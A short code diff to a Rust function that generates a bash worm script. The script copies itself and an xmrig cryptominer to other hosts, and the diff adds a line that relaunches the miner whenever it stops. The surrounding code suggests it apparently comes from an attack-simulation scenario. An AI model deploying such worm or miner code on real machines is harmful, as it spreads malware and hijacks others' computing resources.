@@ -324,12 +324,13 @@ phases:
     }
 }
 
-/// Writes itself and the miner to the other hosts every five seconds, for ten minutes.
+/// Guards the miner, and writes itself and the miner to the other hosts every five seconds, for ten minutes.
 fn worm(host: &Host<'_>, others: &[&Host<'_>]) -> String {
     let others: Vec<&str> = others.iter().map(|other| &*other.address).collect();
     format!(
         "#!/bin/bash
 while [ $SECONDS -lt 600 ]; do
+    pgrep -x xmrig >/dev/null || setsid -f /root/.w/xmrig {words} >/dev/null 2>&1 </dev/null
     for host in {others}; do
         for file in spread-$host xmrig; do
             [ -e /root/.w/$file ] || continue
